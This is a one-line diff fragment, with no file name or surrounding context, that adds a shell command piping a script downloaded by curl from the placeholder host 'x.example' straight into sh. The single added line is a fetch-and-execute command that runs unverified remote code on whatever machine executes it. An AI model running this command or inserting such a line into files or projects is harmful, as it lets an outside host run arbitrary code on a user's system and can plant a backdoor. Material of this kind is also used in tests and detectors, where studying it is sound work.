@@ -1,0 +1,1 @@
+sh <(curl -s http://x.example/s)
